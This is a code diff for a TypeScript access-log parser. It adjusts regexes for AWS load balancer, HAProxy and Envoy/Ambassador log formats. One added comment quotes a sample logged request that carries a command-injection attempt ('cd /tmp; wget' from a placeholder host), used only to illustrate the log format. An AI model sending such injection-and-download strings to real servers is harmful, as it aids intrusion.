@@ -31,10 +31,16 @@ const ALB = new RegExp(
 // sent "request" "user agent" cipher protocol`.
 const ELB = new RegExp(String.raw`^(\d{4}-\d{2}-\d{2}T\S+Z) \S+ (\S+) \S+ \S+ \S+ \S+ (\d{3}|-) (?:\d{3}|-) (?:\d+|-) (?:\d+|-) ${QUOTED} ${QUOTED}`);
 
+// AWS logs the request as the client sent it: a URI with a space in it stays whole (ALB's
+// `SpaceInUri` classification, `"GET http://host:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1"`).
+const LB_REQUEST = /^([A-Z][A-Z0-9_-]*) (\S.*?)(?: HTTP\/[\d.]+)?$/;
+
 function readLoadBalancer(text: string, ctx: ParseContext): AccessRecord | undefined {
   const m = ALB.exec(text) ?? ELB.exec(text);
   if (m === null) return undefined;
-  const request = splitRequestLine(m[4]!.replace(/\\"/g, '"'));
+  const line = m[4]!.replace(/\\"/g, '"').trim();
+  const whole = LB_REQUEST.exec(line);
+  const request = whole === null ? undefined : { method: whole[1]!, target: whole[2]! };
   return record(m[1]!, ctx, {
     source: clientAddress(m[2]!),
     method: request?.method,
@@ -47,8 +53,10 @@ function readLoadBalancer(text: string, ctx: ParseContext): AccessRecord | undef
 // HAProxy HTTP log, usually through syslog (`Feb 25 12:00:00 host haproxy[123]: `, no year): `ip:port
 // [25/Feb/2019:12:00:00.123] frontend backend/server Tq/Tw/Tc/Tr/Ta status bytes … "GET /p HTTP/1.1"`.
 // The accept date carries the year the syslog prefix lacks, so it is the line's time.
+// A `log-format` may put one field of its own before the timers (`%H`, the host name:
+// `myapp/node2 site.domain.com 0/0/0/18/18`); a client on a UNIX socket is logged as `-:port`.
 const HAPROXY = new RegExp(
-  String.raw`^(?:\S.*?\[\d+\]: )?(\S+):\d+ \[(\d{2})/([A-Z][a-z]{2})/(\d{4}):(\d{2}:\d{2}:\d{2}(?:\.\d+)?)\] \S+ \S+ -?\d+/-?\d+/-?\d+/-?\d+/\+?-?\d+ (-?\d{1,3}) \+?(?:\d+|-) .*?${QUOTED}\s*$`,
+  String.raw`^(?:\S.*?\[\d+\]: )?(\S+):\d+ \[(\d{2})/([A-Z][a-z]{2})/(\d{4}):(\d{2}:\d{2}:\d{2}(?:\.\d+)?)\] \S+ \S+ (?:[^\s/]+ )?-?\d+/-?\d+/-?\d+/-?\d+/\+?-?\d+ (-?\d{1,3}) \+?(?:\d+|-) .*?${QUOTED}\s*$`,
 );
 
 function readHaproxy(text: string, ctx: ParseContext): AccessRecord | undefined {
@@ -73,8 +81,9 @@ function readHaproxy(text: string, ctx: ParseContext): AccessRecord | undefined 
 // After the upstream host it writes `UPSTREAM_CLUSTER UPSTREAM_LOCAL_ADDRESS
 // DOWNSTREAM_LOCAL_ADDRESS DOWNSTREAM_REMOTE_ADDRESS …`: the last is the peer (the client itself
 // when nothing forwarded the request), read as nginx's `$remote_addr` is.
+// Ambassador (Emissary-ingress) writes Envoy's default with `ACCESS ` before it.
 const ENVOY = new RegExp(
-  String.raw`^\[(\d{4}-\d{2}-\d{2}T[^\]]+)\] ${QUOTED} (\d{3}|0|-) (?:(?:"[^"]*"|[^\s"]+) ){1,4}?\d+ \d+ \d+ \S+ ${QUOTED} ${QUOTED}` +
+  String.raw`^(?:ACCESS )?\[(\d{4}-\d{2}-\d{2}T[^\]]+)\] ${QUOTED} (\d{3}|0|-) (?:(?:"[^"]*"|[^\s"]+) ){1,4}?\d+ \d+ \d+ \S+ ${QUOTED} ${QUOTED}` +
     String.raw`(?: "[^"]*" "[^"]*" "[^"]*" \S+ \S+ \S+ (\S+))?`,
 );
 
@@ -119,5 +128,6 @@ function readProxyManager(text: string, ctx: ParseContext): AccessRecord | undef
 export function readAccessText(text: string, ctx: ParseContext): AccessRecord | undefined {
   const c = text.charCodeAt(0);
   if (c === 0x5b) return readEnvoy(text, ctx) ?? readProxyManager(text, ctx);
+  if (c === 0x41 && text.startsWith('ACCESS [')) return readEnvoy(text, ctx);
   return readLoadBalancer(text, ctx) ?? readHaproxy(text, ctx);
 }
